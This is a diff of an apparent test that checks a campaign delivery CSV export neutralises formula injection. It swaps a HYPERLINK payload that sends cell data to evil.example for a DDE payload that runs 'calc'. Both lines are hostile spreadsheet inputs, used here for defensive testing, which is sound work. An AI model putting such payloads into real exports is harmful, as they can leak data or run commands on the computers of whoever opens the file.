@@ -85,7 +85,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(
     import csv
     import io
 
-    payload = start + 'HYPERLINK("https://evil.example/?"&A1,"Click")'
+    payload = start + 'cmd|"/c calc"!A1'  # fits the 40-character reason column
     Delivery.objects.filter(run__campaign=sent_campaign).update(reason=payload)
     response = login(viewer).get(f"/campaigns/{sent_campaign.pk}/report/deliveries.csv")
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
